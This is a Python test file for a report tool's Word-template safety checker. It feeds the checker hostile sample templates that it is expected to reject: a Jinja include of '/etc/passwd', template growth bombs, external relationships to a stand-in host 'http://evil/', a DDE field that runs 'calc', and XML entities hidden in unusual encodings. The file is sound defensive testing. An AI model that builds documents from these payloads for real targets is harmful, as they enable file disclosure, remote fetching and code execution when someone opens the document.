"""A Word template of somebody else: it may not compute, grow, load from elsewhere, nor act when it is opened."""

import io
import zipfile

import pytest
from docx import Document

from tanheng.kernel.errors import InputError
from tanheng.reporting.docx import default_template, validate_template
from tanheng.reporting.template_safety import check_package, environment

RELATIONS = "word/_rels/settings.xml.rels"


def own(*lines: str) -> bytes:
    document, file = Document(), io.BytesIO()
    for line in lines:
        document.add_paragraph(line)
    document.save(file)
    return file.getvalue()


def changed(part: str, content: bytes, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(default_template())) as old, zipfile.ZipFile(file, "w", compression) as new:
        for name in old.namelist():
            if name != part:
                new.writestr(name, old.read(name))
        new.writestr(part, content)
    return file.getvalue()


def code_of(body: bytes) -> str:
    with pytest.raises(InputError) as caught:
        validate_template(body)
    return caught.value.code


@pytest.mark.parametrize(
    "text",
    [
        "{% set a = 企业名称 %}" + "{% set a = a ~ a %}" * 40 + "{{ a|length }}",
        "{{ " + "~".join(["企业名称"] * 9) + " }}",
        "{% for a in 正文 %}" * 8 + "x" + "{% endfor %}" * 8,
        "{% for a in '一二三' recursive %}{{ loop(a) }}{% endfor %}",
        "{% macro f() %}x{% endmacro %}",
        "{{ 9 // 3 }}",
        "{% include '/etc/passwd' %}",
        "{% filter upper %}x{% endfilter %}",
    ],
)
def test_a_template_neither_loops_nor_grows(text):
    assert code_of(own(text)) == "report.template_unsafe"


@pytest.mark.parametrize("chain", ["|replace('a','aaaaaaaaaa')" * 30, "|join('aaaaaaaaaa')" * 30])
def test_no_filter_makes_a_text_longer(chain):
    assert code_of(own("{{ 'aaaaaaaaaa'" + chain + " }}")) == "report.template_syntax"


def test_the_same_part_is_not_written_without_end():
    with pytest.raises(Exception, match="太多遍"):
        environment(1_000).from_string("{{ a }}" * 50).render(a="x" * 100)


@pytest.mark.parametrize("text", ["{% if 1 < '2' %}x{% endif %}", "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}"])
def test_what_python_cannot_do_is_a_fault_of_the_template(text):
    assert code_of(own(text)).startswith("report.template_")


@pytest.mark.parametrize(
    "link",
    [
        "<Relationship Id='a' Type='http://x/image' Target='http://evil/' TargetMode='External'/>",
        '<Relationship\nId="a" Type="x/attachedTemplate" Target="http://evil/" TargetMode="External"/>',
        '<Relationship Id="a" Type="x/image" Target="http://evil/hyperlink" TargetMode="External"/>',
        '<Relationship Id="a" Type="x/image" Target="http://evil/" TargetMode="&#69;xternal"/>',
        '<Relationship Id="a" Type="x/aFChunk" Target="chunk.mht"/>',
        '<Relationship Id="a" Type="x/oleObject" Target="elsewhere.bin"/>',
    ],
)
def test_nothing_is_loaded_from_elsewhere_however_it_is_written(link):
    assert code_of(changed(RELATIONS, f"<Relationships>{link}</Relationships>".encode())) == "report.template_macro"


def test_a_link_that_a_reader_follows_may_stay():
    link = '<Relationship Id="a" Type="x/hyperlink" Target="http://www.mee.gov.cn/" TargetMode="External"/>'
    check_package(changed(RELATIONS, f"<Relationships>{link}</Relationships>".encode()))


def field(*runs: str) -> bytes:
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    text = "".join(f"<w:instrText>{run}</w:instrText>" for run in runs)
    return f'<w:hdr {space}><w:fldChar w:fldCharType="begin"/>{text}<w:fldChar w:fldCharType="end"/></w:hdr>'.encode()


@pytest.mark.parametrize(
    "runs",
    [('INCLUDEPICTURE "http://evil/x.png"',), (" DDE", 'AUTO c:\\\\x "calc"'), ("{{ 企业名称 }}",), ("macrobutton x",)],
)
def test_fields_that_fetch_or_run_are_refused(runs):
    assert code_of(changed("word/header9.xml", field(*runs))) == "report.template_macro"


def test_fields_that_number_pages_may_stay():
    check_package(changed("word/header9.xml", field(" PAGE ")))
    check_package(changed("word/header9.xml", field(' HYPERLINK "http://x/a link"')))


@pytest.mark.parametrize(
    "content",
    [
        '<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16"),
        b'<?xml version="1.0" encoding="IBM037"?>' + b"<a/>",
    ],
)
def test_entities_do_not_hide_in_another_encoding(content):
    assert code_of(changed("word/comments.xml", content)) == "report.template_macro"


def test_a_broken_package_is_unreadable_not_an_error():
    body = bytearray(changed("word/comments.xml", b"<a>" + b"x" * 5000 + b"</a>"))
    at = body.find(b"word/comments.xml") + 20
    body[at : at + 8] = b"\xff" * 8
    assert code_of(bytes(body)) == "report.template_unreadable"
    assert code_of(changed(RELATIONS, b"<Relationships><")) == "report.template_unreadable"
